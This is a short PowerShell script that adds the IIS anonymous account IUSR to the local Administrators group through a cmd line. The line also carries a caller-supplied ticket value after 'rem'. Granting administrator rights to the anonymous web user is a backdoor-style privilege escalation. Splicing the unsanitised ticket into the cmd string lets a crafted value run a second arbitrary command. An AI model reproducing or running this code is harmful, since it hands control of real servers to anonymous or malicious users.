param([string]$Ticket)
$template = 'net localgroup {group} {user} /add & rem {ticket}'
$line = $template.Replace('{ticket}', $Ticket).Replace('{user}', 'IUSR').Replace('{group}', 'Administrators')
cmd /c $line
